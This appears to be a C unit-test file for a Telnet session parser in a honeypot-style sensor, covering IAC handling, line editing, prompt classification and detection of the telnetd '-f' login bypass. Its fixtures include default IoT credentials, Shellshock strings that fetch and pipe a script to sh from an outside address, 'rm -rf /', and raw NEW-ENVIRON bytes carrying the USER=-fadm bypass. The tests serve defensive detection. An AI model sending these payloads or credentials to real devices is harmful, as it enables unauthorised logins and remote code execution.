/*
 * test_telnet.c - the Telnet session core: IAC removal, line assembly and
 * editing, prompts, the silent-server rule, environment sub-negotiations,
 * the login bypass (tn_login_bypass).
 */
#include "tn_session.h"
#include "ss_limits.h"
#include "unit.h"

#include <stdlib.h>

#define MAX_EVENTS 16

typedef struct {
    tn_event_kind_t kind[MAX_EVENTS];
    char text[MAX_EVENTS][SS_MAX_TELNET_LINE + 1];
    char name[MAX_EVENTS][64];
    size_t len[MAX_EVENTS];
    uint8_t option[MAX_EVENTS];
    unsigned problems[MAX_EVENTS];
    int n;
} events_t;

static events_t *ev;
static tn_session_t s;

static void on_event(const tn_event_t *e, void *user)
{
    events_t *out = user;
    if (out->n >= MAX_EVENTS)
        return;
    out->kind[out->n] = e->kind;
    memcpy(out->text[out->n], e->text, e->len);
    out->text[out->n][e->len] = '\0';
    snprintf(out->name[out->n], sizeof(out->name[0]), "%s", e->name ? e->name : "");
    out->len[out->n] = e->len;
    out->option[out->n] = e->option;
    out->problems[out->n] = e->problems;
    out->n++;
}

static void start(void)
{
    if (!ev)
        ev = malloc(sizeof(*ev));
    memset(ev, 0, sizeof(*ev));
    tn_session_free(&s);
    tn_session_init(&s);
}

static void cli(const char *bytes, size_t n)
{
    tn_feed_client(&s, (const uint8_t *)bytes, n, on_event, ev);
}
#define CLI(lit) cli(lit, sizeof(lit) - 1)
#define SRV(lit) tn_feed_server(&s, (const uint8_t *)(lit), sizeof(lit) - 1)

static void test_silent_server(void)
{
    start();
    CLI("root\r\n");
    CLI("xc3511\r\n");
    CLI("enable\r\nsystem\r\n"); /* two lines in one segment */
    CLI("/bin/busybox ECCHI\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "root");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
    HS_ASSERT_STR(ev->text[1], "xc3511");
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
    HS_ASSERT_STR(ev->text[2], "enable");
    HS_ASSERT_STR(ev->text[3], "system");
    HS_ASSERT_STR(ev->text[4], "/bin/busybox ECCHI");
}

static void test_interactive_prompts(void)
{
    start();
    SRV("\xff\xfd\x18OpenBSD/i386 (oof) (ttyp2)\r\n\r\nlogin: ");
    CLI("fake\r\n");
    SRV("Password:");
    CLI("user\r\n");
    SRV("Last login: Sat Nov 27 20:11:43 on ttyp2\r\n$ ");
    CLI("/sbin/ping www.yahoo.com\r\n");
    CLI("ls\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 4);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "fake");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
    HS_ASSERT_STR(ev->text[1], "user");
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
    CU_ASSERT_EQUAL(ev->kind[3], TN_EV_COMMAND);
}

static void test_failed_login_loops(void)
{
    start();
    SRV("login: ");
    CLI("admin\r\n");
    SRV("Password: ");
    CLI("admin\r\n");
    SRV("\r\nLogin incorrect\r\nlogin: ");
    CLI("root\r\n");
    SRV("Password: ");
    CLI("vizxv\r\n");
    SRV("\r\n# ");
    CLI("cat /proc/cpuinfo\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_USER);
    HS_ASSERT_STR(ev->text[2], "root");
    CU_ASSERT_EQUAL(ev->kind[3], TN_EV_PASSWORD);
    CU_ASSERT_EQUAL(ev->kind[4], TN_EV_COMMAND);
}

static void test_character_at_a_time_with_echo(void)
{
    start();
    SRV("Username: ");
    const char *keys = "rooX\x7ft";
    for (const char *k = keys; *k; k++) {
        cli(k, 1);
        tn_feed_server(&s, (const uint8_t *)k, 1); /* the server echoes */
    }
    CLI("\r\0");
    CU_ASSERT_EQUAL_FATAL(ev->n, 1);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "root");
}

static void test_iac_removed_across_segments(void)
{
    start();
    CLI("\xff\xfb\x18\xff\xfd"); /* WILL TTYPE, then DO split over two segments */
    CLI("\x01ro");
    CLI("ot\xff\xff\r");           /* IAC IAC is a 0xFF data byte; CR ends the line */
    CLI("\n");                     /* ...and LF after it does not end another */
    CLI("pw\xff\xf7x\r\n");        /* IAC EC erases the character before it */
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    HS_ASSERT_STR(ev->text[0], "root\xff");
    HS_ASSERT_STR(ev->text[1], "px");
}

static void test_blank_lines_ignored(void)
{
    start();
    CLI("\r\n \t \r\n\0\r\n");
    CLI("root\r\n\r\npass\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
}

static void test_new_environ(void)
{
    start();
    static const char sb[] = "\xff\xfa\x27\x00\x00USER\x01() { :;}; wget http://x/a\x03X\x01"
                             "y\xff\xf0";
    cli(sb, sizeof(sb) - 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_ENVIRON);
    CU_ASSERT_EQUAL(ev->option[0], TN_OPT_NEW_ENVIRON);
    HS_ASSERT_STR(ev->name[0], "USER");
    HS_ASSERT_STR(ev->text[0], "() { :;}; wget http://x/a");
    HS_ASSERT_STR(ev->name[1], "X");
    HS_ASSERT_STR(ev->text[1], "y");
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0);
}

static void test_terminal_type_and_escapes(void)
{
    start();
    static const char sb[] = "\xff\xfa\x18\x00() { :;}; id\xff\xff\xff\xf0root\r\n";
    cli(sb, sizeof(sb) - 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_ENVIRON);
    CU_ASSERT_EQUAL(ev->option[0], TN_OPT_TERMINAL_TYPE);
    HS_ASSERT_STR(ev->text[0], "() { :;}; id\xff");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_USER); /* data after SE is a line again */
}

static void test_sb_without_se(void)
{
    start();
    static const char sb[] = "\xff\xfa\x18\x00vt100\xff\xfa\x18\x00xterm\xff\xf0";
    cli(sb, sizeof(sb) - 1);
    CU_ASSERT_EQUAL(ev->n, 2);
    CU_ASSERT(tn_take_problems(&s) & TN_PROB_SB_UNTERMINATED);
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0); /* taken once */
}

static void test_endless_line_is_bounded(void)
{
    start();
    size_t n = SS_MAX_TELNET_LINE * 3;
    char *big = malloc(n);
    memset(big, 'A', n);
    cli(big, n);
    cli(big, n);
    CLI("\r\n");
    free(big);
    CU_ASSERT_EQUAL_FATAL(ev->n, 1);
    CU_ASSERT_EQUAL(ev->len[0], SS_MAX_TELNET_LINE);
    CU_ASSERT(ev->problems[0] & TN_PROB_LINE_TOO_LONG);
    CU_ASSERT(s.line.cap <= SS_MAX_TELNET_LINE);
}

static void test_iac_flood_and_garbage(void)
{
    start();
    char junk[4096];
    for (size_t i = 0; i < sizeof(junk); i++)
        junk[i] = (char)(i % 7 == 0 ? 0xff : (i * 131) & 0xff);
    cli(junk, sizeof(junk));
    tn_feed_server(&s, (const uint8_t *)junk, sizeof(junk));
    CU_ASSERT(ev->n <= MAX_EVENTS); /* no crash, bounded; ASan checks the reads */
    CU_ASSERT(s.line.len <= SS_MAX_TELNET_LINE);
}

/* Logs in on a silent server, so that the next line is a command. */
static void silent_login(void)
{
    CLI("root\r\n");
    CLI("xc3511\r\n");
}

static void test_ctrl_c_discards_the_line(void)
{
    start();
    silent_login();
    const char *keys = "\x03" "exit"; /* character mode: ^C, then exit */
    for (const char *k = keys; *k; k++)
        cli(k, 1);
    CLI("\r\0");
    CLI("rm -rf /tmp/x\x03id\r\n");      /* ^C in the middle of a line */
    CLI("reboot\xff\xf4uname\r\n");      /* IAC IP: the line-mode client's ^C */
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
    HS_ASSERT_STR(ev->text[2], "exit");
    HS_ASSERT_STR(ev->text[3], "id");
    HS_ASSERT_STR(ev->text[4], "uname");
}

static void test_ctrl_c_alone_is_no_line(void)
{
    start();
    silent_login();
    CLI("ls\x03\r\n");
    CLI("\x03\r\n");
    CU_ASSERT_EQUAL(ev->n, 2); /* the user and password only */
}

static void test_ctrl_u_and_ctrl_w_edit(void)
{
    start();
    silent_login();
    CLI("rm -rf /\x15ls -l\r\n");          /* ^U kills the line */
    CLI("cat /etc/shadow\x17passwd\r\n");  /* ^W erases the last word */
    CLI("echo a  \x17\x17id\r\n");         /* ...with blanks before it */
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    HS_ASSERT_STR(ev->text[2], "ls -l");
    HS_ASSERT_STR(ev->text[3], "cat passwd");
    HS_ASSERT_STR(ev->text[4], "id");
}

static void test_other_controls_are_not_text(void)
{
    start();
    silent_login();
    CLI("l\x01s\x07 \x04-a\r\n");          /* ^A, BEL, ^D dropped */
    CLI("\x1b[A\x1b[1;5Dps\x1bOB\r\n");    /* arrow keys (CSI, SS3) dropped */
    CLI("\x1b\x03id\r\n");                 /* a control ends an ESC sequence and acts */
    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
    HS_ASSERT_STR(ev->text[2], "ls -a");
    HS_ASSERT_STR(ev->text[3], "ps");
    HS_ASSERT_STR(ev->text[4], "id");
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0);
}

/* Deterministic pseudo-random bytes (xorshift32). */
static void random_bytes(uint8_t *p, size_t n, uint32_t seed)
{
    for (size_t i = 0; i < n; i++) {
        seed ^= seed << 13;
        seed ^= seed >> 17;
        seed ^= seed << 5;
        p[i] = (uint8_t)seed;
    }
}

static void test_random_bytes_are_not_commands(void)
{
    start();
    uint8_t junk[8192];
    random_bytes(junk, sizeof(junk), 12345);
    cli((const char *)junk, sizeof(junk));
    CLI("\r\nroot\r\nwget http://198.51.100.9/x; sh x\r\n"); /* text later does not count */
    CU_ASSERT_EQUAL(ev->n, 0);
    CU_ASSERT_EQUAL(tn_take_problems(&s), TN_PROB_NOT_TEXT);
    cli((const char *)junk, sizeof(junk));
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0); /* raised once per conversation */
}

static void test_rtmp_is_not_commands(void)
{
    start();
    /* RTMP's C0 (version 3) and C1 (time, zero, random), then a connect
     * command in AMF0 that names a URL; a silent server. */
    uint8_t c1[1 + 1536];
    c1[0] = 0x03;
    memset(c1 + 1, 0, 8);
    random_bytes(c1 + 9, sizeof(c1) - 9, 777);
    cli((const char *)c1, sizeof(c1));
    static const char amf[] = "\x03\x00\x00\x00\x00\x00\x6b\x14\x00\x00\x00\x00\x02\x00\x07"
                              "connect\x00\x3f\xf0\x00\x00\x00\x00\x00\x00\x03\x00\x03"
                              "app\x02\x00\x04live\x00\x05tcUrl\x02\x00\x1e"
                              "rtmp://198.51.100.9/live;wget\r\n\x00\x00\x09";
    CLI(amf);
    CU_ASSERT_EQUAL(ev->n, 0);
    CU_ASSERT(tn_take_problems(&s) & TN_PROB_NOT_TEXT);
}

static void test_text_with_a_few_odd_bytes_is_text(void)
{
    start();
    CLI("\0\0\0j\xc3\xbcrgen\r\n");          /* NUL padding, UTF-8 */
    CLI("p\xe4ss\xff\xffw\xf6rd\r\n");        /* Latin-1 and a 0xFF data byte */
    CLI("\x01\x02\x05wget\r\n");
    CU_ASSERT_EQUAL_FATAL(ev->n, 3);
    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
    HS_ASSERT_STR(ev->text[0], "j\xc3\xbcrgen");
    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
    HS_ASSERT_STR(ev->text[2], "wget");
    CU_ASSERT_EQUAL(tn_take_problems(&s), 0);
}

static void test_binary_first_line_with_prompt(void)
{
    start();
    SRV("login: ");
    CLI("\x01\x02\x05\x06\x0e\x0f" "ab\r\n"); /* 6 of 8 bytes are not text */
    CLI("root\r\n");
    CU_ASSERT_EQUAL(ev->n, 0);
    CU_ASSERT_EQUAL(tn_take_problems(&s), TN_PROB_NOT_TEXT);
}

static void test_buffers_sized_to_content(void)
{
    start();
    CLI("wget http://x/");                   /* a partial line */
    CU_ASSERT(s.line.cap <= 32);
    char big[5000];
    memset(big, 'A', sizeof(big));
    cli(big, sizeof(big));
    CU_ASSERT(s.line.cap >= sizeof(big));
    CLI("\r\n");
    CU_ASSERT_EQUAL(s.line.cap, 0);          /* a long line's buffer is given back */
    CLI("ls\r\n");
    CU_ASSERT(s.line.cap <= 32);
    CU_ASSERT_EQUAL(ev->n, 2);
}

static void test_classify_prompt(void)
{
    static const struct {
        const char *text;
        tn_prompt_t want;
    } cases[] = {
        {"login: ", TN_PROMPT_LOGIN},
        {"Welcome\r\nLOGIN:", TN_PROMPT_LOGIN},
        {"Username:", TN_PROMPT_LOGIN},
        {"Password: ", TN_PROMPT_PASSWORD},
        {"root@router:~# ", TN_PROMPT_SHELL},
        {"$ ", TN_PROMPT_SHELL},
        {"BusyBox v1.19\r\n> ", TN_PROMPT_SHELL},
        {"Welcome to the router\r\n", TN_PROMPT_NONE},
        {"", TN_PROMPT_NONE},
        {"login: \r\n", TN_PROMPT_NONE},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        tn_prompt_t got = tn_classify_prompt(cases[i].text, strlen(cases[i].text));
        if (got != cases[i].want)
            fprintf(stderr, "\n  prompt \"%s\": got %d want %d\n", cases[i].text, got, cases[i].want);
        CU_ASSERT_EQUAL(got, cases[i].want);
    }
}

/* tn_login_bypass on a value given as a literal (NULs included). */
#define BYPASS(opt, name, lit) tn_login_bypass(opt, name, lit, sizeof(lit) - 1)

static void test_login_bypass_decision(void)
{
    const uint8_t NEW = TN_OPT_NEW_ENVIRON, OLD = TN_OPT_OLD_ENVIRON;
    /* The -f family: Solaris (CVE-2007-0882), GNU inetutils (CVE-2026-24061). */
    CU_ASSERT(BYPASS(NEW, "USER", "-fadm"));
    CU_ASSERT(BYPASS(NEW, "USER", "-f root"));
    CU_ASSERT(BYPASS(NEW, "USER", "-fbin"));
    CU_ASSERT(BYPASS(OLD, "USER", "-froot"));
    CU_ASSERT(BYPASS(NEW, "USER", "-h"));             /* any option */
    CU_ASSERT(BYPASS(NEW, "USER", "--help"));         /* a long option */
    CU_ASSERT(BYPASS(NEW, "USER", " -froot"));        /* inetutils splits at white space */
    CU_ASSERT(BYPASS(NEW, "USER", "\t-f\troot"));
    CU_ASSERT(BYPASS(NEW, "USER", "root -f"));        /* GNU getopt permutes */
    /* A Shellshock payload's options are not login's (demo frame 95). */
    CU_ASSERT(!BYPASS(NEW, "USER", "() { :;}; wget http://198.51.100.9/e.sh -O- | sh"));
    CU_ASSERT(BYPASS(NEW, "USER", "- -f root"));      /* "-" is an operand */
    CU_ASSERT(BYPASS(NEW, "USER", "-f\0garbage"));    /* read up to the NUL */
    CU_ASSERT(BYPASS(NEW, "USER", "-f\x01root"));     /* a control byte is word text */
    CU_ASSERT(BYPASS(NEW, "USER", "-\xff"));
    /* Not options. */
    CU_ASSERT(!BYPASS(NEW, "USER", "fadm"));
    CU_ASSERT(!BYPASS(NEW, "USER", "root"));
    CU_ASSERT(!BYPASS(NEW, "USER", "a-f"));
    CU_ASSERT(!BYPASS(NEW, "USER", ""));
    CU_ASSERT(!BYPASS(NEW, "USER", "   "));
    CU_ASSERT(!BYPASS(NEW, "USER", "-"));
    CU_ASSERT(!BYPASS(NEW, "USER", "--"));
    CU_ASSERT(!BYPASS(NEW, "USER", "-- -f root"));    /* end of options */
    CU_ASSERT(!BYPASS(NEW, "USER", "\0-f"));          /* telnetd stores "" */
    CU_ASSERT(!BYPASS(NEW, "USER", "root\0 -f"));
    CU_ASSERT(!BYPASS(NEW, "USER", "\x01-f"));
    CU_ASSERT(!BYPASS(NEW, "USER", "() { :;}; id"));
    /* Only USER, spelt as telnetd's getenv() reads it, in the environment options. */
    CU_ASSERT(!BYPASS(NEW, "user", "-fadm"));
    CU_ASSERT(!BYPASS(NEW, "User", "-fadm"));
    CU_ASSERT(!BYPASS(NEW, "LOGNAME", "-fadm"));
    CU_ASSERT(!BYPASS(NEW, "USERNAME", "-fadm"));
    CU_ASSERT(!BYPASS(NEW, "USER ", "-fadm"));
    CU_ASSERT(!BYPASS(NEW, "", "-fadm"));
    CU_ASSERT(!BYPASS(NEW, NULL, "-fadm"));
    CU_ASSERT(!BYPASS(TN_OPT_TERMINAL_TYPE, "TERM", "-fadm"));
    CU_ASSERT(!BYPASS(TN_OPT_TERMINAL_TYPE, "USER", "-fadm"));
    CU_ASSERT(!tn_login_bypass(NEW, "USER", NULL, 0));
}

/* The events of one client sub-negotiation, and whether any is a bypass. */
static int bypasses_in(const char *sb, size_t n)
{
    start();
    cli(sb, n);
    int found = 0;
    for (int i = 0; i < ev->n; i++)
        found += ev->kind[i] == TN_EV_ENVIRON &&
                 tn_login_bypass(ev->option[i], ev->name[i], ev->text[i], ev->len[i]);
    return found;
}
#define BYPASSES_IN(lit) bypasses_in(lit, sizeof(lit) - 1)

static void test_login_bypass_in_sessions(void)
{
    /* The real capture's bytes: IAC SB NEW-ENVIRON IS VAR "USER" VALUE "-fadm" IAC SE. */
    static const char fadm[] = "\xff\xfa\x27\x00\x00USER\x01-fadm\xff\xf0";
    CU_ASSERT_EQUAL(BYPASSES_IN(fadm), 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 1);
    HS_ASSERT_STR(ev->name[0], "USER");
    HS_ASSERT_STR(ev->text[0], "-fadm");
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0"), 1);
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\x01root\xff\xf0"), 0);
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\xff\xf0"), 0); /* no value */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\x01\xff\xf0"), 0);
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00LOGNAME\x01-fadm\xff\xf0"), 0);
    /* USERVAR "USER" is read as VAR by telnetd; among other variables; INFO as IS. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x03USER\x01-fadm\xff\xf0"), 1);
    CU_ASSERT_EQUAL(
        BYPASSES_IN("\xff\xfa\x27\x00\x00DISPLAY\x01x:0\x00USER\x01-froot\x03X\x01y\xff\xf0"), 1);
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x02\x00USER\x01-fadm\xff\xf0"), 1);
    /* SEND (from a client) sets nothing. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x01\x00USER\x01-fadm\xff\xf0"), 0);
    /* ESC'd markers are value bytes: "-f" NUL "x" still starts with -f; an
     * escaped NUL first is an empty C string. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\x01-f\x02\x00x\xff\xf0"), 1);
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\x01\x02\x00-f\xff\xf0"), 0);
    /* IAC IAC inside the value is one 0xff byte. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x27\x00\x00USER\x01-\xff\xff\xff\xf0"), 1);
    /* Split over segments. */
    start();
    CLI("\xff\xfa\x27\x00\x00US");
    CLI("ER\x01-fa");
    CLI("dm\xff\xf0");
    CU_ASSERT_EQUAL_FATAL(ev->n, 1);
    CU_ASSERT(tn_login_bypass(ev->option[0], ev->name[0], ev->text[0], ev->len[0]));
    /* TERMINAL-TYPE is no login argument. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x18\x00-fadm\xff\xf0"), 0);
}

static void test_old_environ_names(void)
{
    /* RFC 1408's VAR 0 / VALUE 1: every piece reported, the value with its name. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x00USER\x01-fadm\xff\xf0"), 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    HS_ASSERT_STR(ev->text[0], "USER");
    HS_ASSERT_STR(ev->name[0], "");
    HS_ASSERT_STR(ev->text[1], "-fadm");
    HS_ASSERT_STR(ev->name[1], "USER");
    /* BSD's swapped markers: the first marker starts a name. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x01USER\x00-fadm\xff\xf0"), 1);
    CU_ASSERT_EQUAL_FATAL(ev->n, 2);
    HS_ASSERT_STR(ev->name[1], "USER");
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x01TERM\x00vt100\x01USER\x00-froot\xff\xf0"), 1);
    /* Two names: no value. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x00USER\x00-fadm\xff\xf0"), 0);
    /* "-fadm" is A's value (VAR first: standard), "USER" a name without value. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x00" "A\x01USER\x00-fadm\xff\xf0"), 0);
    /* USERVAR first: the counts decide, either way round. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x03USER\x01-fadm\xff\xf0"), 1);
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x03USER\x00-fadm\xff\xf0"), 1);
    /* USERVAR first, then an empty VAR: VALUE is the name marker (swapped). */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x03X\x00\x01USER\x00-fadm\xff\xf0"), 1);
    /* USERVAR, USERVAR, VALUE: one value for one name, standard: -fadm is Y's. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x03USER\x03Y\x01-fadm\xff\xf0"), 0);
    CU_ASSERT_EQUAL_FATAL(ev->n, 3);
    HS_ASSERT_STR(ev->name[2], "Y");
    /* Undecided (2 USERVAR, 1 VAR, 1 VALUE: telnetd sets nothing): pieces
     * reported without names. */
    CU_ASSERT_EQUAL(BYPASSES_IN("\xff\xfa\x24\x00\x03" "A\x00" "B\x03USER\x01-fadm\xff\xf0"), 0);
    CU_ASSERT_EQUAL_FATAL(ev->n, 4);
    HS_ASSERT_STR(ev->text[3], "-fadm");
    HS_ASSERT_STR(ev->name[3], "");
}

static CU_TestInfo tests[] = {
    {"silent server: user, password, commands", test_silent_server},
    {"interactive prompts", test_interactive_prompts},
    {"failed login loops back to user", test_failed_login_loops},
    {"character at a time, echo, DEL", test_character_at_a_time_with_echo},
    {"IAC removed across segments", test_iac_removed_across_segments},
    {"blank lines ignored", test_blank_lines_ignored},
    {"NEW-ENVIRON values", test_new_environ},
    {"TERMINAL-TYPE and IAC IAC", test_terminal_type_and_escapes},
    {"SB without SE", test_sb_without_se},
    {"endless line is bounded", test_endless_line_is_bounded},
    {"IAC flood and garbage", test_iac_flood_and_garbage},
    {"prompt classification", test_classify_prompt},
    {"^C discards the line (and IAC IP)", test_ctrl_c_discards_the_line},
    {"^C alone completes no line", test_ctrl_c_alone_is_no_line},
    {"^U kills the line, ^W erases a word", test_ctrl_u_and_ctrl_w_edit},
    {"other C0 controls and ESC sequences are not text", test_other_controls_are_not_text},
    {"random bytes give no logins or commands", test_random_bytes_are_not_commands},
    {"RTMP gives no logins, commands or URL", test_rtmp_is_not_commands},
    {"text with a few odd bytes stays text", test_text_with_a_few_odd_bytes_is_text},
    {"binary first line despite a login prompt", test_binary_first_line_with_prompt},
    {"line buffers sized to content", test_buffers_sized_to_content},
    {"login bypass: the decision", test_login_bypass_decision},
    {"login bypass: NEW-ENVIRON sub-negotiations", test_login_bypass_in_sessions},
    {"login bypass: OLD-ENVIRON names either way round", test_old_environ_names},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN("telnet session", tests)
